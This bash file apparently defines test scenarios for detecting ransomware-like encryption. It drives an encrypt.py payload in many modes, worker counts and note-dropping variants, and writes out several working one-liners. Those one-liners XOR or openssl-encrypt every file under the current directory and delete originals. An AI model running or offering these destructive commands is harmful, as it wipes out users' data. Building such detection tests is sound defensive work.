# Interpreters: the encryptors that arrive as a text file. payload/encrypt.py writes in all the ways real ones do; the
# one-liners are typed here in full.
# shellcheck shell=bash
# shellcheck disable=SC2016

encrypt() { /usr/bin/python3 "$KIT/encrypt.py" "$@" "$TREE"; }

#@ py-inplace needs=python3 processes=1 limit=25 ci
py_inplace() { encrypt --way inplace; }

#@ py-inplace-704 needs=python3 processes=1 limit=5 ci
py_inplace_704() { encrypt --way inplace --pattern head-4k --rate 704; }

#@ py-head-4k needs=python3 processes=1 limit=25
py_head_4k() { encrypt --way inplace --pattern head-4k; }

#@ py-stripes needs=python3 processes=1 limit=25
py_stripes() { encrypt --way inplace --pattern stripes; }

#@ py-alternate-16 needs=python3 processes=1 limit=25 ci
py_alternate_16() { encrypt --way mmap --pattern alternate-16; }

#@ py-mmap needs=python3 processes=1 limit=25 ci
py_mmap() { encrypt --way mmap; }

#@ py-truncate needs=python3 processes=1 limit=25
py_truncate() { encrypt --way truncate; }

#@ py-base64 needs=python3 processes=1 limit=25
py_base64() { encrypt --way truncate --pattern base64; }

#@ py-temp-rename needs=python3 processes=1 limit=25
py_temp_rename() { encrypt --way temp-rename; }

#@ py-new-unlink needs=python3 processes=1 limit=25 ci
py_new_unlink() { encrypt --way new-unlink; }

#@ py-rename-first needs=python3 processes=1 limit=25
py_rename_first() { encrypt --way rename-first --note; }

#@ py-notes needs=python3 processes=1 limit=25
py_notes() { encrypt --way new-unlink --note; }

#@ py-threads-18 needs=python3 processes=18 limit=25
py_threads_18() { encrypt --way inplace --workers 18 --threads; }
#@ py-threads-256 needs=python3 processes=256 limit=25
py_threads_256() { encrypt --way inplace --workers 256 --threads; }

#@ py-processes-18 needs=python3 processes=18 limit=25 ci
py_processes_18() { encrypt --way inplace --workers 18; }

#@ py-processes-18-704 needs=python3 processes=18 limit=5
py_processes_18_704() { encrypt --way inplace --pattern head-4k --workers 18 --rate 704; }

#@ py-processes-256 needs=python3 processes=256 limit=25 seconds=120
py_processes_256() { encrypt --way temp-rename --workers 256; }

#@ py-fork-each needs=python3 processes=1 limit=25
py_fork_each() { encrypt --way inplace --fork-each; }

#@ py-daemons-18 needs=python3 processes=18 limit=25 orphans ci
py_daemons_18() { encrypt --way new-unlink --workers 18 --detach; }

#@ py-one-liner-xor needs=python3 processes=1 limit=25
# The kind that is pasted into a terminal: XOR with a repeated key, written back in place.
py_one_liner_xor() {
    find . -type f -size +0 -print0 | xargs -0 /usr/bin/python3 -c 'import sys,itertools
k=b"\x9e\x37\x79\xb9\x7f\x4a\x7c\x15\xf3\x9c\xc0\x60\x5c\xed\xc8\x34"
for p in sys.argv[1:]:
 f=open(p,"r+b");d=f.read();f.seek(0);f.write(bytes(a^b for a,b in zip(d,itertools.cycle(k))))'
}

#@ py-one-liner-openssl needs=python3,openssl processes=1 limit=5
py_one_liner_openssl() {
    /usr/bin/python3 -c 'import os,subprocess
for r,_,fs in os.walk("."):
 for n in fs:
  p=os.path.join(r,n)
  if os.path.isfile(p) and os.path.getsize(p):
   subprocess.run(["openssl","enc","-aes-256-cbc","-pbkdf2","-iter","1","-k","x","-in",p,"-out",p+".aes"],check=True);os.remove(p)'
}

#@ perl-one-liner needs=perl processes=1 limit=25 ci
# perl -i keeps no backup: unlink and a new file of the same name, the content XORed with a keyed generator.
perl_one_liner() {
    find . -type f -size +0 -print0 | xargs -0 perl -0777 -pi -e 'srand(42); $_ ^= join "", map { pack "V", rand(2**32) } 0 .. length($_) / 4'
}

#@ perl-rename-inplace needs=perl processes=1 limit=25
perl_rename_inplace() {
    find . -type f -size +0 -print0 | xargs -0 perl -e 'for (@ARGV) { rename $_, "$_.crypt"; open(F,"+<","$_.crypt") or next;
        binmode F; my $n = read(F, my $d, 65536); seek(F,0,0); print F join "", map { chr(ord($_)^int(rand(256))) } split //, $d; close F }'
}
